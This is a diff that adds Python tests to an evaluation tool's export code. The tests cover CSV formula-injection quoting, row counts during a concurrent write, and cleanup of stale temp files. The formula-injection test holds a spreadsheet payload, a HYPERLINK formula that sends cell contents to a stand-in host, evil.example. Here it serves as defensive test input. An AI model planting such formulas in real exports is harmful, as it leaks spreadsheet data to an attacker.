@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
+import os
 from pathlib import Path
 
 import pyarrow.parquet as pq
@@ -143,3 +145,84 @@ def test_exports_name_their_run_and_follow_the_umask(gsm8k_run: Path, tmp_path: 
     assert table.slice(1318, 1).to_pylist() == [dict(zip(header[:3], expected, strict=True))]
     row = json.loads((tmp_path / "r.jsonl").read_text().splitlines()[0])
     assert [row["run"], row["model"], row["identity"]] == expected
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(
+    tmp_path: Path, cli, lead: str
+) -> None:
+    """A response (or sample id) starting with =, +, -, @, tab or CR is written with a
+    leading apostrophe, so a spreadsheet shows it as text instead of running it as a
+    formula; numbers stay numbers (before: `=HYPERLINK(...)` went out unchanged)."""
+    text = f'{lead}HYPERLINK("http://evil.example/?"&A1, "click")'
+    (tmp_path / "d.jsonl").write_text(json.dumps({"id": f"{lead}id"}) + "\n")
+    (tmp_path / "rec.jsonl").write_text(json.dumps({"id": f"{lead}id", "out": text}) + "\n")
+    (tmp_path / "s.yaml").write_text(
+        "name: r\ndataset: {path: d.jsonl}\nprompt: 'q'\ntarget: x\n"
+        "model: {provider: replay, name: m, recordings: {path: rec.jsonl, "
+        "response_field: out}}\nscorer: {type: exact}\n"
+    )
+    run = gradetrail.run_eval(gradetrail.load_spec(tmp_path / "s.yaml"), results_root=tmp_path)
+    out = cli("export", str(run.run_dir), "--format", "csv", "--out", "-")
+    assert out.exit_code == 0
+    (row,) = list(csv.DictReader(io.StringIO(out.stdout, newline="")))
+    assert row["response"] == "'" + text
+    assert row["sample_id"] == f"'{lead}id"
+    assert row["score"] == "0.0"  # a number is not text: left as it is
+
+
+def test_an_export_of_a_run_being_written_counts_the_rows_it_wrote(
+    gsm8k_run: Path, tmp_path: Path
+) -> None:
+    """Rows appended to results.jsonl while an export reads it (a run still writing)
+    are left out of both of its passes: the rows it reports are the rows it wrote (before:
+    the count came from the first pass and the file from the second)."""
+    import shutil
+    import threading
+
+    from gradetrail.analysis.export import export_run
+
+    run_dir = tmp_path / "live"
+    shutil.copytree(gsm8k_run, run_dir)
+    line = (run_dir / "results.jsonl").read_text().splitlines()[0] + "\n"
+    stop = threading.Event()
+
+    def append() -> None:  # the run, still writing (20,000 rows at most)
+        with (run_dir / "results.jsonl").open("a") as f:
+            for _ in range(400):
+                if stop.is_set():
+                    return
+                f.write(line * 50)
+                f.flush()
+                stop.wait(0.001)
+
+    writer = threading.Thread(target=append)
+    writer.start()
+    try:
+        exported = export_run(run_dir, "jsonl", tmp_path / "out.jsonl")
+    finally:
+        stop.set()
+        writer.join()
+    written = (tmp_path / "out.jsonl").read_text().count("\n")
+    assert exported.rows == written and written >= 1319
+
+
+def test_a_killed_exports_hidden_tmp_is_removed_by_the_next_export(
+    gsm8k_run: Path, tmp_path: Path
+) -> None:
+    """kill -9 during an export leaves `.NAME.PID.XXXX.tmp` beside the output: the next
+    export to that name removes it (its process is gone), and keeps a live one's."""
+    import subprocess
+    import sys
+
+    from gradetrail.analysis.export import export_run
+
+    dead = subprocess.Popen([sys.executable, "-c", "pass"])
+    dead.wait()
+    out = tmp_path / "out.csv"
+    left = tmp_path / f".out.csv.{dead.pid}.abc123.tmp"
+    left.write_bytes(b"\0" * 1000)
+    live = tmp_path / f".out.csv.{os.getpid()}.def456.tmp"
+    live.write_bytes(b"in progress")
+    export_run(gsm8k_run, "csv", out)
+    assert not left.exists() and live.exists()
